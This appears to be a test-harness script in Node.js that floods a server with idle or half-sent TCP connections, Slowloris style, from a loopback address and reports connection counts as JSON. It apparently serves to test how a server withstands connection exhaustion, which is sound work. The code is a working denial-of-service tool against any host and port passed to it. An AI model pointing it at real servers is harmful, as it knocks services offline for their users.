// An attacker without any token: opens COUNT raw TCP connections to HOST:PORT from LOCAL
// (a loopback address of its own, e.g. 127.0.0.2), sends nothing (or, with MODE "half", half a
// request head), and opens a new one a second after each that the server closes, until stdin
// closes or it gets SIGTERM. Prints its figures as one JSON line every 500 ms and at the end:
// {"opened": connections that were established, "closed": closed by the server, "open": now}.
//   node tcp-flood.mjs HOST PORT LOCAL COUNT [silent|half]
import * as net from 'node:net';

const [host, portText, local, countText, mode = 'silent'] = process.argv.slice(2);
const port = Number(portText);
const count = Number(countText);
const figures = { opened: 0, closed: 0, failed: 0, open: 0 };
let stopping = false;
const sockets = new Set();

function open() {
  if (stopping) return;
  const s = net.connect({ host, port, localAddress: local });
  sockets.add(s);
  let established = false;
  s.on('connect', () => {
    established = true;
    figures.opened++;
    figures.open++;
    if (mode === 'half') s.write('GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ');
  });
  s.on('data', () => {});
  s.on('error', () => {});
  s.on('close', () => {
    sockets.delete(s);
    if (established) {
      figures.open--;
      figures.closed++;
    } else figures.failed++;
    setTimeout(open, 1000);
  });
}

const say = () => process.stdout.write(JSON.stringify(figures) + '\n');
const stop = () => {
  if (stopping) return;
  stopping = true;
  say();
  for (const s of sockets) s.destroy();
  setTimeout(() => process.exit(0), 100);
};
process.on('SIGTERM', stop);
process.stdin.on('end', stop).resume();
setInterval(say, 500).unref();
// Open them in bursts, so the whole flood is there within a second or two.
let started = 0;
const burst = setInterval(() => {
  for (let i = 0; i < 100 && started < count; i++, started++) open();
  if (started >= count) clearInterval(burst);
}, 10);
